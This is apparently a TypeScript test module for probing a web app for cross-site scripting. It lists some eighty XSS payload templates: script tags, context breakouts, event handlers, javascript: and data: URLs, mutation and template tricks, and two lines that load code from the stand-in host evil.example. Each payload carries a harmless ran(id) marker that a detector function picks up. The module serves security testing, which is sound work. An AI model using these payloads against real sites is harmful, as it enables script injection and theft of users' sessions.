/** Texts by which an attacker might run a script, as functions of that script. */
const recipes: readonly ((script: string) => string)[] = [
  // Script elements, or elements that break out of their context.
  (it) => `<script>${it}</script>`,
  (it) => `<ScRiPt >${it}</sCrIpT\t>`,
  (it) => `</script><script>${it}</script>`,
  (it) => `"><script>${it}</script>`,
  (it) => `'><script>${it}</script>`,
  (it) => `--><script>${it}</script>`,
  (it) => `<!--><script>${it}</script>-->`,
  (it) => `</title><script>${it}</script>`,
  (it) => `</textarea><script>${it}</script>`,
  (it) => `</style><script>${it}</script>`,
  (it) => `</noscript><script>${it}</script>`,
  (it) => `</template><script>${it}</script>`,
  (it) => `<svg><script>${it}</script></svg>`,
  (it) => `<svg><script href="data:,${it}"/></svg>`,
  (it) => `<script src="data:,${it}"></script>`,
  (it) => `<script src=//evil.example/${toNumber(it)}.js></script>`,
  (it) => `<script type=module>${it}</script>`,
  (it) => `<noscript><p title="</noscript><script>${it}</script>">`,
  (it) => `<math><mtext><table><mglyph><style><img src=x onerror=${it}>`,
  (it) => `<svg></p><style><g title="</style><img src=x onerror=${it}>">`,
  // Handlers that need no interaction.
  (it) => `<img src=x onerror=${it}>`,
  (it) => `<img/src=x/onerror=${it}//`,
  (it) => `"><img src=x onerror=${it}>`,
  (it) => `x" onerror="${it}`,
  (it) => `x' onerror='${it}`,
  (it) => `x" autofocus onfocus="${it}`,
  (it) => `x" style="animation:x" onanimationstart="${it}`,
  (it) => `<svg onload=${it}></svg>`,
  (it) => `<svg><animate onbegin=${it} attributeName=x dur=1s>`,
  (it) => `<body onload=${it}>`,
  (it) => `<body onpageshow=${it}>`,
  (it) => `<iframe onload=${it}></iframe>`,
  (it) => `<input autofocus onfocus=${it}>`,
  (it) => `<select autofocus onfocus=${it}></select>`,
  (it) => `<xss id=x tabindex=0 autofocus onfocus=${it}>x</xss>`,
  (it) => `<details open ontoggle=${it}>x</details>`,
  (it) => `<video src=x onerror=${it}></video>`,
  (it) => `<video><source onerror=${it}></video>`,
  (it) => `<audio src=x onerror=${it}></audio>`,
  (it) => `<style onload=${it}>x{}</style>`,
  (it) => `<link rel=stylesheet href="data:text/css," onload=${it}>`,
  (it) => `<object data=x onerror=${it}></object>`,
  // Documents in the document.
  (it) => `<iframe src="javascript:parent.${it}"></iframe>`,
  (it) => `<iframe srcdoc="<script>${it}</script>"></iframe>`,
  (it) => `<iframe src="data:text/html,<script>${it}</script>"></iframe>`,
  (it) => `<object data="data:text/html,<script>${it}</script>"></object>`,
  (it) => `<embed src="data:text/html,<script>${it}</script>">`,
  (it) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${it}</script>">`,
  (it) => `<base href=//evil.example/>${it}`,
  // Addresses that run a script when followed.
  (it) => `javascript:${it}`,
  (it) => `JaVaScRiPt:${it}`,
  (it) => `\u0001javascript:${it}`,
  (it) => `java\tscript:${it}`,
  (it) => `javascript://%0a${it}`,
  (it) => `data:text/html,<script>${it}</script>`,
  (it) => `<a href="javascript:${it}">x</a>`,
  (it) => `<a href="java&Tab;script:${it}">x</a>`,
  (it) => `<svg><a href="javascript:${it}"><text y=9>x</text></a></svg>`,
  (it) => `<form action="javascript:${it}"><button>x</button></form>`,
  (it) => `<form><button formaction="javascript:${it}">x</button></form>`,
  // Texts that only some interpreters run: Markdown, templates, scripts, XML, a second decoding.
  (it) => `[x](javascript:${it})`,
  (it) => `![x](x"onerror="${it})`,
  (it) => `<javascript:${it}>`,
  (it) => `{{constructor.constructor("${it}")()}}`,
  (it) => `\${${it}}`,
  (it) => `";${it}//`,
  (it) => `';${it}//`,
  (it) => `\\";${it}//`,
  (it) => `\u2028${it}\u2029`,
  (it) => `\\u003cscript\\u003e${it}\\u003c/script\\u003e`,
  (it) => `%3Cscript%3E${it}%3C/script%3E`,
  (it) => `&lt;script&gt;${it}&lt;/script&gt;`,
  (it) => `+ADw-script+AD4-${it}+ADw-/script+AD4-`,
  (it) => `<![CDATA[<script>${it}</script>]]>`,
  (it) => `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${it}</x:script>`,
  (it) => `<?xml-stylesheet href="javascript:${it}"?>`,
  (it) => `{"__proto__":{"innerHTML":"<img src=x onerror=${it}>"}}`,
  (it) =>
    `{"$$typeof":"Symbol(react.transitional.element)","type":"script","props":{"children":"${it}"}}`,
];

const toNumber = (script: string) => script.replaceAll(/\D/g, '');

export interface Payload {
  /** The id that the payload reports when it runs. */
  readonly id: number;
  readonly text: string;
}

/** The ways by which payloads come in. */
export const ways = ['address', 'storage', 'cart', 'answers', 'content'] as const;

export type Way = (typeof ways)[number];

/** The payloads of one way. No two payloads are equal, also across ways. */
export const listPayloads = (way: Way): readonly Payload[] =>
  recipes.map((write, index) => {
    const id = ways.indexOf(way) * 100 + index + 1;
    return { id, text: write(`ran(${id})`) };
  });

/** Hands out payloads round-robin. */
export const dealPayloads = (payloads: readonly Payload[]) => {
  let next = 0;
  return (): string => {
    const payload = payloads[next % payloads.length];
    next += 1;
    return payload?.text ?? '';
  };
};

/** Ids of payloads whose script is in a text, even if the rest of the payload is changed. */
export const findPayloads = (text: string): ReadonlySet<number> =>
  new Set([...text.matchAll(/(?:ran\(|evil\.example\/)(\d+)/g)].map(([, id]) => Number(id)));
